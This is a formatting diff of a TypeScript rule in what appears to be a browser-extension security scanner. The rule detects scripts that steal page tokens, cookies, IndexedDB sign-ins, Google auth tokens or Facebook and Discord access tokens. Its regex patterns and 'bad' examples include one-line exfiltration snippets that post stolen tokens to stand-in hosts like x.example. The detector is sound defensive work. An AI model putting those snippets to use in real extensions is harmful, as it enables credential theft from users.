@@ -1,4 +1,15 @@
-import { apiPath, callsOf, constant, listOf, nameOf, Op, propertyOf, readsNamed, readsOf, type ScriptFacts } from '../../facts/javascript/query.ts';
+import {
+  apiPath,
+  callsOf,
+  constant,
+  listOf,
+  nameOf,
+  Op,
+  propertyOf,
+  readsNamed,
+  readsOf,
+  type ScriptFacts,
+} from '../../facts/javascript/query.ts';
 import { defineRule } from '../../rule.ts';
 import { backgroundExample, checkScripts, contentExample } from './checkScripts.ts';
 import { expressionsOf, hostOf, mentions, textsOf } from './network.ts';
@@ -8,7 +19,8 @@ import { leavesBy } from './sendings.ts';
 import { functionOf } from './usage.ts';
 
 /** Texts that only somebody who looks for access tokens of others needs. */
-const HUNTS = /EAA[AB][A-Z]?\w?\\[wd]|EAA[AB]\[|"?accessToken\\?"?:\\?"?\(|access_token[:=]\\?"?\(\[?|__accessToken|mfa\\\.\[|\[\\w-\]\{24\}\\\.\[\\w-\]\{6\}|window\.__accessToken|adsmanager\.facebook\.com\/adsmanager\/manage|business\.facebook\.com\/content_management|webpackChunkdiscord_app/;
+const HUNTS =
+  /EAA[AB][A-Z]?\w?\\[wd]|EAA[AB]\[|"?accessToken\\?"?:\\?"?\(|access_token[:=]\\?"?\(\[?|__accessToken|mfa\\\.\[|\[\\w-\]\{24\}\\\.\[\\w-\]\{6\}|window\.__accessToken|adsmanager\.facebook\.com\/adsmanager\/manage|business\.facebook\.com\/content_management|webpackChunkdiscord_app/;
 const TOKEN_KEY = /^(token|access_?token|auth_?token|id_?token|refresh_?token|jwt|session|sessionToken)$/i;
 
 export const tokenTakenFromPage = defineRule({
@@ -26,56 +38,122 @@ export const tokenTakenFromPage = defineRule({
     if (runsInPages(facts, file.path)) {
       // The page's own storage, as a whole or by the name of a token.
       const taken = new Map<number, string>();
-      for (const call of callsOf(script, 'localStorage.getItem', 'sessionStorage.getItem')) if (TOKEN_KEY.test(constant(script, call.args[0] ?? 0) ?? '')) taken.set(call.value, 'a token in the page’s storage');
-      for (const value of readsOf(script, ...['token', 'access_token', 'accessToken', 'auth_token'].flatMap((name) => [`localStorage.${name}`, `sessionStorage.${name}`]))) taken.set(value, 'a token in the page’s storage');
+      for (const call of callsOf(script, 'localStorage.getItem', 'sessionStorage.getItem'))
+        if (TOKEN_KEY.test(constant(script, call.args[0] ?? 0) ?? ''))
+          taken.set(call.value, 'a token in the page’s storage');
+      for (const value of readsOf(
+        script,
+        ...['token', 'access_token', 'accessToken', 'auth_token'].flatMap((name) => [
+          `localStorage.${name}`,
+          `sessionStorage.${name}`,
+        ]),
+      ))
+        taken.set(value, 'a token in the page’s storage');
       // The storage of another frame of the page: a site that takes its own away is got around so.
-      for (const value of readsNamed(script, 'token', 'access_token', 'accessToken', 'auth_token', 'refresh_token')) if (nameOf(script, script.a[value] as number) === 'localStorage') taken.set(value, 'a token in the page’s storage');
-      for (const call of callsOf(script, 'JSON.stringify', 'Object.entries', 'Object.assign')) if (call.args.some((arg) => isWholeStorage(script, arg))) taken.set(call.value, 'everything in the page’s storage');
+      for (const value of readsNamed(script, 'token', 'access_token', 'accessToken', 'auth_token', 'refresh_token'))
+        if (nameOf(script, script.a[value] as number) === 'localStorage')
+          taken.set(value, 'a token in the page’s storage');
+      for (const call of callsOf(script, 'JSON.stringify', 'Object.entries', 'Object.assign'))
+        if (call.args.some((arg) => isWholeStorage(script, arg)))
+          taken.set(call.value, 'everything in the page’s storage');
       // Sign-ins that sites keep in a database of the browser: a content script sees the page's, never its own.
-      if (callsOf(script, 'indexedDB.open').length > 0) for (const value of readsNamed(script, 'result')) if (originPaths(script, value).has('indexedDB.open')) taken.set(value, 'everything in a database of the page');
+      if (callsOf(script, 'indexedDB.open').length > 0)
+        for (const value of readsNamed(script, 'result'))
+          if (originPaths(script, value).has('indexedDB.open'))
+            taken.set(value, 'everything in a database of the page');
       for (const [value, what] of taken) {
         const out = leavesBy(script, new Set([value]), ['network', 'message']);
-        if (out?.kind === 'network') yield hit(value, { confidence: 'high', message: `It sends ${what} to ${out.to}.` });
-        else if (out?.kind === 'message' && what.startsWith('everything')) yield hit(value, { severity: 'medium', message: `It hands ${what} to the background.` });
+        if (out?.kind === 'network')
+          yield hit(value, { confidence: 'high', message: `It sends ${what} to ${out.to}.` });
+        else if (out?.kind === 'message' && what.startsWith('everything'))
+          yield hit(value, { severity: 'medium', message: `It hands ${what} to the background.` });
         else continue;
         if (what.startsWith('everything in a data')) break;
       }
     }
     for (const call of callsOf(script, 'chrome.scripting.executeScript')) {
-      const fn = functionOf(script, propertyOf(script, call.args[0] ?? 0, 'func') || propertyOf(script, call.args[0] ?? 0, 'function'));
+      const fn = functionOf(
+        script,
+        propertyOf(script, call.args[0] ?? 0, 'func') || propertyOf(script, call.args[0] ?? 0, 'function'),
+      );
       const what = fn === undefined ? undefined : brought(script, fn);
       const out = what === undefined ? undefined : leavesBy(script, new Set([call.value]), ['network']);
-      if (out !== undefined) yield hit(call.value, { severity: 'critical', message: `A function put into pages brings ${what ?? ''} back, and it is sent to ${out.to}.` });
+      if (out !== undefined)
+        yield hit(call.value, {
+          severity: 'critical',
+          message: `A function put into pages brings ${what ?? ''} back, and it is sent to ${out.to}.`,
+        });
     }
     for (const call of callsOf(script, 'chrome.identity.getAuthToken')) {
       const out = leavesBy(script, new Set([call.value]), ['network']);
       const host = out === undefined ? undefined : hostOf(out.to);
-      if (host !== undefined && !/(^|\.)(googleapis|google|youtube)\.com$/.test(host)) yield hit(call.value, { severity: 'medium', message: `The key to the person’s Google account is handed to ${host}.` });
+      if (host !== undefined && !/(^|\.)(googleapis|google|youtube)\.com$/.test(host))
+        yield hit(call.value, {
+          severity: 'medium',
+          message: `The key to the person’s Google account is handed to ${host}.`,
+        });
     }
     if (!mentions(script, HUNTS)) return;
     // Either a text or an expression, or a name of the page's own.
-    const at = [...textsOf(script), ...expressionsOf(script)].find(({ text }) => HUNTS.test(text))?.value ?? script.calls[0] ?? 0;
-    const out = leavesBy(script, new Set(callsOf(script, 'fetch').map((call) => call.value)), ['network', 'message', 'storage']);
-    yield hit(at, out?.kind === 'network' ? { severity: 'critical', message: `Answers of the site are searched for its access token and sent to ${out.to}.` } : { message: 'Pages are searched for the site’s own access token.' });
+    const at =
+      [...textsOf(script), ...expressionsOf(script)].find(({ text }) => HUNTS.test(text))?.value ??
+      script.calls[0] ??
+      0;
+    const out = leavesBy(script, new Set(callsOf(script, 'fetch').map((call) => call.value)), [
+      'network',
+      'message',
+      'storage',
+    ]);
+    yield hit(
+      at,
+      out?.kind === 'network'
+        ? {
+            severity: 'critical',
+            message: `Answers of the site are searched for its access token and sent to ${out.to}.`,
+          }
+        : { message: 'Pages are searched for the site’s own access token.' },
+    );
   }),
   examples: {
     bad: [
-      contentExample('const t = localStorage.getItem("token"); fetch("https://x.example/t", { method: "POST", body: t });'),
+      contentExample(
+        'const t = localStorage.getItem("token"); fetch("https://x.example/t", { method: "POST", body: t });',
+      ),
       contentExample('chrome.runtime.sendMessage({ store: JSON.stringify(localStorage) });'),
       contentExample('navigator.sendBeacon("https://x.example/s", JSON.stringify(Object.entries(sessionStorage)));'),
-      backgroundExample('fetch("https://adsmanager.facebook.com/adsmanager/manage/campaigns").then((r) => r.text()).then((t) => { const m = /EAAB\\w+/.exec(t); fetch("https://x.example/f?t=" + m[0]); });'),
-      backgroundExample('chrome.tabs.onUpdated.addListener((tabId, i, tab) => { chrome.scripting.executeScript({ target: { tabId }, func: () => ({ ls: { ...localStorage }, ck: document.cookie }) }).then(([r]) => { fetch("https://x.example/up", { method: "POST", body: JSON.stringify(r.result) }); }); });'),
-      contentExample('const f = document.createElement("iframe"); document.head.append(f); const t = f.contentWindow.localStorage.token; if (t) fetch("https://x.example/d", { method: "POST", body: t });'),
-      backgroundExample('chrome.identity.getAuthToken({ interactive: true }, (token) => { fetch("https://sorter.example/grant", { method: "POST", body: token }); });'),
-      contentExample('const open = indexedDB.open("firebaseLocalStorageDb"); open.onsuccess = (e) => { const q = e.target.result.transaction("s").objectStore("s").getAll(); q.onsuccess = () => { chrome.runtime.sendMessage({ extra: q.result.map((r) => r.value) }); }; };'),
+      backgroundExample(
+        'fetch("https://adsmanager.facebook.com/adsmanager/manage/campaigns").then((r) => r.text()).then((t) => { const m = /EAAB\\w+/.exec(t); fetch("https://x.example/f?t=" + m[0]); });',
+      ),
+      backgroundExample(
+        'chrome.tabs.onUpdated.addListener((tabId, i, tab) => { chrome.scripting.executeScript({ target: { tabId }, func: () => ({ ls: { ...localStorage }, ck: document.cookie }) }).then(([r]) => { fetch("https://x.example/up", { method: "POST", body: JSON.stringify(r.result) }); }); });',
+      ),
+      contentExample(
+        'const f = document.createElement("iframe"); document.head.append(f); const t = f.contentWindow.localStorage.token; if (t) fetch("https://x.example/d", { method: "POST", body: t });',
+      ),
+      backgroundExample(
+        'chrome.identity.getAuthToken({ interactive: true }, (token) => { fetch("https://sorter.example/grant", { method: "POST", body: token }); });',
+      ),
+      contentExample(
+        'const open = indexedDB.open("firebaseLocalStorageDb"); open.onsuccess = (e) => { const q = e.target.result.transaction("s").objectStore("s").getAll(); q.onsuccess = () => { chrome.runtime.sendMessage({ extra: q.result.map((r) => r.value) }); }; };',
+      ),
     ],
     good: [
-      backgroundExample('const open = indexedDB.open("mine"); open.onsuccess = (e) => { const q = e.target.result.transaction("s").objectStore("s").getAll(); q.onsuccess = () => { chrome.runtime.sendMessage({ rows: q.result }); }; };'),
-      backgroundExample('chrome.identity.getAuthToken({}, (token) => { fetch("https://www.googleapis.com/calendar/v3/x", { headers: { Authorization: "Bearer " + token } }); }); fetch("https://api.example.com/v");'),
-      backgroundExample('chrome.scripting.executeScript({ target: { tabId }, func: () => document.title }).then(([r]) => fetch("https://x.example/t?t=" + r.result)); const all = { ...localStorage };'),
+      backgroundExample(
+        'const open = indexedDB.open("mine"); open.onsuccess = (e) => { const q = e.target.result.transaction("s").objectStore("s").getAll(); q.onsuccess = () => { chrome.runtime.sendMessage({ rows: q.result }); }; };',
+      ),
+      backgroundExample(
+        'chrome.identity.getAuthToken({}, (token) => { fetch("https://www.googleapis.com/calendar/v3/x", { headers: { Authorization: "Bearer " + token } }); }); fetch("https://api.example.com/v");',
+      ),
+      backgroundExample(
+        'chrome.scripting.executeScript({ target: { tabId }, func: () => document.title }).then(([r]) => fetch("https://x.example/t?t=" + r.result)); const all = { ...localStorage };',
+      ),
       contentExample('const theme = localStorage.getItem("theme"); fetch("https://x.example/t?theme=" + theme);'),
-      backgroundExample('const token = localStorage.getItem("token"); fetch("https://api.example.com/me", { headers: { authorization: "Bearer " + token } });'),
-      backgroundExample('chrome.identity.getAuthToken({ interactive: true }, (token) => { fetch("https://www.googleapis.com/x", { headers: { authorization: "Bearer " + token } }); });'),
+      backgroundExample(
+        'const token = localStorage.getItem("token"); fetch("https://api.example.com/me", { headers: { authorization: "Bearer " + token } });',
+      ),
+      backgroundExample(
+        'chrome.identity.getAuthToken({ interactive: true }, (token) => { fetch("https://www.googleapis.com/x", { headers: { authorization: "Bearer " + token } }); });',
+      ),
     ],
   },
 });
@@ -94,9 +172,15 @@ function brought(script: ScriptFacts, fn: number): string | undefined {
     const pos = script.pos[value] as number;
     if (pos < fact.start || pos >= fact.end) continue;
     const op = script.op[value];
-    if (op === Op.spread && isWholeStorage(script, script.a[value] as number)) return 'everything in the page’s storage';
+    if (op === Op.spread && isWholeStorage(script, script.a[value] as number))
+      return 'everything in the page’s storage';
     if (op === Op.member && apiPath(script, value) === 'document.cookie') return 'the page’s cookies';
-    if (op === Op.call && /^(JSON\.stringify|Object\.(entries|assign))$/.test(apiPath(script, script.a[value] as number) ?? '') && listOf(script, script.b[value] as number).some((arg) => isWholeStorage(script, arg))) return 'everything in the page’s storage';
+    if (
+      op === Op.call &&
+      /^(JSON\.stringify|Object\.(entries|assign))$/.test(apiPath(script, script.a[value] as number) ?? '') &&
+      listOf(script, script.b[value] as number).some((arg) => isWholeStorage(script, arg))
+    )
+      return 'everything in the page’s storage';
   }
   return undefined;
 }
